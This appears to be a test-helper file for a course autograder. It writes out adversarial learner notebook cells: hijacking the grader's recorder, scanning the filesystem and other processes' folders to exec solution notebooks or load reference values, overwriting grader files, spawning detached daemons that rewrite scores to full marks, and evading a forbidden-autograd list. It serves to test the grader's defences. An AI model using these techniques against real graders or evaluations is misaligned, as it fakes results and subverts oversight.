"""Learner code that tries to earn points without computing the answers (``tests/test_sealed.py``).

Each function returns the source of a cell (or of the lines put in front of one) as a learner
who knows how the grader works would write it; where the attacker would have to guess a path
(the grader's out folder, the course repository, the user's home), the real one is written in.
"""

from __future__ import annotations

import re
import textwrap

import nbformat
import torch

from checks.authoring.student import ROOT
from checks.grading.exercise import load_exercise

SOLUTION = ROOT / "solutions" / "03-makemore-backprop.ipynb"
CHECKS = load_exercise(SOLUTION).checks  # every check id of notebook 03 ("ex1/dlogprobs", ...)
KEYS = ("cmp(", 'require("step()"')  # lines that a solution cell and the learner's copy share
PLACEHOLDER = re.compile(r"^(\w+) = \.\.\.  # TODO.*$", re.M)  # at a cell's top level only


def answer_cells(nb: nbformat.NotebookNode) -> list[tuple[nbformat.NotebookNode, dict[str, str]]]:
    """The answer cells of a copy of notebook 03, each with its ``{name: check id}``."""
    by_id = {c.get("id"): c for c in nb.cells if c.cell_type == "code"}
    return [
        (by_id[a.cell_id], dict(zip(a.names, a.checks, strict=True)))
        for a in load_exercise(SOLUTION).answers
    ]


def guard_every_answer_cell(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Every answer cell runs ``_steal(cell id, {name: check}, its first check line)`` first and
    keeps its placeholders only when that found nothing: the attacker computes nothing by hand."""
    for cell, checks in answer_cells(nb):
        key = next(ln.strip() for ln in cell.source.split("\n") if ln.strip().startswith(KEYS))
        guard = f"if not _steal({cell.get('id')!r}, {checks!r}, {key!r}):\n"
        cell.source = guard + textwrap.indent(cell.source, "    ")
    return nb


def fill_top_level(nb: nbformat.NotebookNode, expr) -> nbformat.NotebookNode:
    """Each placeholder ``dX = ...  # TODO`` at a cell's top level (not inside ``step()``) becomes
    ``dX = expr(dX, k)`` (k: how many ``dX`` came before); ``expr`` returning None keeps it."""
    seen: dict[str, int] = {}

    def one(m: re.Match) -> str:
        k = seen.get(m.group(1), 0)
        seen[m.group(1)] = k + 1
        code = expr(m.group(1), k)
        return m.group(0) if code is None else f"{m.group(1)} = {code}"

    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.source = PLACEHOLDER.sub(one, cell.source)
    return nb


def prepend_to_first_answer(nb: nbformat.NotebookNode, code: str) -> nbformat.NotebookNode:
    cell = answer_cells(nb)[0][0]
    cell.source = code.strip("\n") + "\n\n" + cell.source
    return nb


# ------------------------------------------------------------ 1. the recorder, hijacked


HIJACK = f'''
import threading
import time

import checks.grading.recorder
from IPython import get_ipython
from IPython.display import publish_display_data

_ns = get_ipython().user_ns
_rec = checks.grading.recorder
_ALL = {CHECKS!r}


def _mine():
    """For every check, whatever the notebook holds under its name right now."""
    return {{c: _rec.as_value(_ns.get(c.split("/")[1].split("#")[0], ...)) for c in _ALL}}


def _emit(kind, **content):
    if kind == "autograd":
        return  # nobody needs to know
    if kind == "values":
        content = dict(content, data=_rec.pack(_mine()))
    publish_display_data({{_rec.MIME: {{"kind": kind, **content}}}}, metadata={{}})


def _record(values, facts=None):
    _emit("values", data="", facts=_rec.pack(facts or {{}}))


_rec.emit, _rec.record = _emit, _record
_rec.check_grads = lambda scope: None


def _keep_sending():
    while True:
        try:
            _record({{}})
        except Exception:
            pass
        time.sleep(0.02)


threading.Thread(target=_keep_sending, daemon=True).start()
'''


# ------------------------------------------------------------ 2. and 4. solution code, from disk


_EXEC_SOLUTIONS = '''
import ast
import json
import os
import time
from pathlib import Path

_SOLVED = {}  # a cell id, and each check line -> the source of a cell that holds a solution block


def _collect(path):
    try:
        nb = json.loads(Path(path).read_text())
        for cell in nb.get("cells", []):
            src = "".join(cell.get("source", ""))
            if "### BEGIN SOLUTION" in src:
                ast.parse(src)
                keys = [ln.strip() for ln in src.split("\\n")
                        if ln.strip().startswith(("cmp(", 'require("step()"'))]
                for key in [cell.get("id"), *keys]:
                    _SOLVED.setdefault(key, src)
    except Exception:
        pass


def _walk(root, deadline, depth=6):
    """Every notebook under root (not following links), until the deadline."""
    try:
        for top, dirs, files in os.walk(root):
            if time.monotonic() > deadline or top.count(os.sep) - str(root).count(os.sep) >= depth:
                dirs[:] = []
                continue
            dirs[:] = [d for d in dirs if top != "/" or d not in ("proc", "sys", "dev", "usr")]
            for f in files:
                if f.endswith(".ipynb"):
                    _collect(os.path.join(top, f))
    except Exception:
        pass


def _steal(cell_id, checks, key):
    src = _SOLVED.get(cell_id) or _SOLVED.get(key)
    if src is None:
        return False
    try:
        exec(src, globals())
        return True
    except Exception:
        return False
'''


def read_grading_notebook(out: str) -> str:
    """Attack 2: the grading notebook (and any notebook) near the kernel, in /tmp, in other
    processes' folders and in the grader's out folder; their solution blocks run as answers."""
    return (
        _EXEC_SOLUTIONS
        + f"""

try:
    _deadline = time.monotonic() + 15
    _here = Path.cwd()
    _walk(_here, _deadline)
    for _p in _here.parents:
        for _f in _p.glob("*.ipynb"):
            _collect(_f)
    _walk("/tmp", _deadline)
    for _cwd in Path("/proc").glob("*/cwd"):
        _walk(str(_cwd), _deadline, depth=3)
    _walk({out!r}, _deadline, depth=8)
    _walk(os.path.expanduser("~"), _deadline)
    print(f"found {{len(_SOLVED)}} solution cells")
except Exception as _e:
    print("nothing found:", type(_e).__name__)
"""
    )


def read_solutions(repo: str) -> str:
    """Attack 4: the instructor's ``solutions/`` next to the installed ``checks`` package, and at
    the course repository's real path."""
    return (
        _EXEC_SOLUTIONS
        + f"""

try:
    import checks.authoring.student

    _repo = Path({repo!r})
    for _folder in [checks.authoring.student.ROOT / "solutions", _repo / "solutions", _repo]:
        for _f in sorted(Path(_folder).glob("*.ipynb")):
            _collect(_f)
    print(f"found {{len(_SOLVED)}} solution cells")
except Exception as _e:
    print("nothing found:", type(_e).__name__)
"""
    )


def read_reference_cache(folders: list[str], seconds: float = 15) -> str:
    """Attack 3: the grader's reference values (``*.pt``) in ``folders`` (where the grader keeps
    them: its cache, ``.reference`` under the out folder) and in any ``.reference`` folder under
    ``/`` (for ``seconds``); each answer is the reference's value."""
    return f"""
import glob
import os
import time

import torch

_REF = {{}}  # check id -> the grader's expected value
_deadline = time.monotonic() + {seconds!r}
try:
    _found = [f for _d in {folders!r} for f in glob.glob(os.path.join(_d, "*.pt"))]
    for _top, _dirs, _files in os.walk("/"):
        if time.monotonic() > _deadline:
            break
        _dirs[:] = [d for d in _dirs if _top != "/" or d not in ("proc", "sys", "dev", "usr")]
        if _top.endswith(".reference"):
            _found += [os.path.join(_top, f) for f in _files if f.endswith(".pt")]
    for _f in _found:
        try:
            _values = torch.load(_f, weights_only=True)
            _REF.update({{k: v for k, v in _values.items() if isinstance(v, torch.Tensor)}})
        except Exception:
            pass
    print(f"found {{len(_REF)}} reference values")
except Exception as _e:
    print("nothing found:", type(_e).__name__)


def _steal(cell_id, checks, key):
    got = {{n: _REF[c] for n, c in checks.items() if c in _REF}}
    if not got:
        return False
    if all(c.startswith("ex4/") for c in checks.values()):  # step(): the gradients it returns
        order = ["dC", "dW1", "db1", "dW2", "db2", "dbngain", "dbnbias"]
        globals()["step"] = lambda net, Xb, Yb: (torch.tensor(3.0), [got.get(n) for n in order])
    else:
        globals().update(got)
    return True
"""


# ------------------------------------------------------------ 5. writing where the grader keeps it


def write_everything(targets: list[str], creates: list[str], marker: str) -> str:
    """Attack 5: overwrite ``targets`` (each with its own content and a marker line, where it can
    be read) and create ``creates``; every failure is swallowed."""
    return f'''
import os
from pathlib import Path

_wrote = []
for _t in {targets!r}:
    try:
        try:
            _old = Path(_t).read_bytes()
        except Exception:
            _old = b""
        Path(_t).parent.mkdir(parents=True, exist_ok=True)
        Path(_t).write_bytes(_old + b"\\n# {marker}\\n")
        _wrote.append(_t)
    except Exception:
        pass
for _t in {creates!r} + [os.path.join(os.path.expanduser("~"), "{marker}.txt")]:
    try:
        Path(_t).write_text("{marker}\\n")
        _wrote.append(_t)
    except Exception:
        pass
print("wrote", _wrote)
'''


# ------------------------------------------------------------ 6. processes that outlive the kernel


def child_loop(out: str, places: list[str], submission: str) -> str:
    """What a detached child runs (its marker is ``sys.argv[1]``): every 0.2 s, a marker file in
    each of ``places`` and a totals.csv that gives ``submission`` full marks."""
    return textwrap.dedent(f'''
        import os, sys, time
        marker = sys.argv[1]
        totals = os.path.join({out!r}, "totals.csv")
        while True:
            for folder in {places!r}:
                try:
                    with open(os.path.join(folder, marker + ".txt"), "w") as f:
                        f.write(marker)
                except Exception:
                    pass
            try:
                with open(totals, "w") as f:
                    f.write("submission,notebook,passed,checks,score\\n")
                    f.write("{submission},03-makemore-backprop.ipynb,35,35,1.000\\n")
            except Exception:
                pass
            time.sleep(0.2)
    ''')


def detached_children(loop: str, popen_marker: str, daemon_marker: str) -> str:
    """Attack 6: one child in a session of its own, and one double-forked daemon."""
    return f"""
import os
import subprocess
import sys

_LOOP = {loop!r}
try:
    subprocess.Popen([sys.executable, "-c", _LOOP, {popen_marker!r}], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except Exception as _e:
    print("Popen:", _e)
try:
    _pid = os.fork()
    if _pid == 0:  # a new session, then a grandchild that nobody waits for
        try:
            os.setsid()
            if os.fork() == 0:
                _null = os.open(os.devnull, os.O_RDWR)
                for _fd in (0, 1, 2):
                    os.dup2(_null, _fd)
                os.execv(sys.executable, [sys.executable, "-c", _LOOP, {daemon_marker!r}])
        finally:
            os._exit(0)
    os.waitpid(_pid, 0)
except Exception as _e:
    print("fork:", _e)
"""


# ------------------------------------------------------------ 7. numbers computed elsewhere


def default_gradients() -> dict[str, torch.Tensor]:
    """Autograd's gradients for notebook 03 as it runs by default (its own seed, batch 32): what a
    learner who ran autograd at home could paste in as numbers."""
    from checks.data import load_names, split_dataset
    from tests import makemore as mm

    split = split_dataset(load_names(), block_size=3)
    g = torch.Generator().manual_seed(2147483647)  # as the notebook: parameters, then the batch
    p = {
        "C": torch.randn((27, 10), generator=g),
        "W1": torch.randn((30, 64), generator=g) * (5 / 3) / (30**0.5),
        "b1": torch.randn(64, generator=g) * 0.1,
        "W2": torch.randn((64, 27), generator=g) * 0.1,
        "b2": torch.randn(27, generator=g) * 0.1,
        "bngain": torch.randn((1, 64), generator=g) * 0.1 + 1.0,
        "bnbias": torch.randn((1, 64), generator=g) * 0.1,
    }
    for t in p.values():
        t.requires_grad_(True)
    ix = torch.randint(0, split.Xtr.shape[0], (32,), generator=g)
    f = mm.forward(p, split.Xtr[ix], split.Ytr[ix])
    f["loss"].backward()
    return {"d" + k: mm.tensor_of(k, p, f).grad for k in mm.ORDER}


def literal(t: torch.Tensor) -> str:
    return f"torch.tensor({t.tolist()!r})"


# ------------------------------------------------------------ 9. autograd by routes a list misses

# answers (as ``tests.test_grade.filled`` takes them: the top-level answer first, step()'s second)
# and the lines put before the cell; each answer's value is autograd's, reached by a route that a
# list of forbidden spellings misses (issue 23): a backward kernel called directly, torch.func
# under another name, autograd's functional API through attribute strings, the graph's nodes
# called one by one, and a plain `.grad` after a second backward pass
ROUTES: dict[str, tuple[str, str, str]] = {  # answer: (its check line, lines before, expression)
    "dhpreact": (
        "cmp('hpreact', dhpreact, hpreact)",
        "",
        "torch.ops.aten.tanh_backward(dh, torch.tanh(hpreact))",
    ),
    "dh": (
        "cmp('h', dh, h)",
        "from torch import func as _fn",
        "_fn.vjp(lambda _h: _h @ W2 + b2, h)[1](dlogits)[0]",
    ),
    "dW2": (
        "cmp('W2', dW2, W2)",
        "import operator",
        "operator.attrgetter('autograd.functional.vjp')(torch)"
        "(lambda _w: h @ _w + b2, W2.detach(), dlogits)[1]",
    ),
    "dlogprobs": (
        "cmp('logprobs', dlogprobs, logprobs)",
        "_lp = logprobs.clone()\n"
        "_g, _node = (torch.ones(()),), (-_lp[range(n), Yb].mean()).grad_fn\n"
        "for _ in range(3):  # the loss's nodes, called one by one: neg, mean, index\n"
        "    _g = _node(*_g)\n"
        "    _g = _g if isinstance(_g, tuple) else (_g,)\n"
        "    _node = _node.next_functions[0][0]",
        "_g[0]",
    ),
    "dprobs": (
        "cmp('probs', dprobs, probs)",
        "loss.backward(retain_graph=True)",
        "probs.grad.clone()",
    ),
}


def with_routes(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """A right copy of notebook 03 (``nb``, filled in) whose answers of ``ROUTES`` come from
    autograd: each cell's answer line replaced, its lines put in front."""
    for answer, (line, before, expr) in ROUTES.items():
        cell = next(c for c in nb.cells if c.cell_type == "code" and line in c.source)
        top = re.compile(rf"^{answer} = .*$", re.M)
        assert top.search(cell.source), answer
        cell.source = top.sub(lambda m, t=f"{answer} = {expr}": t, cell.source, count=1)
        cell.source = (before + "\n" if before else "") + cell.source
    return nb
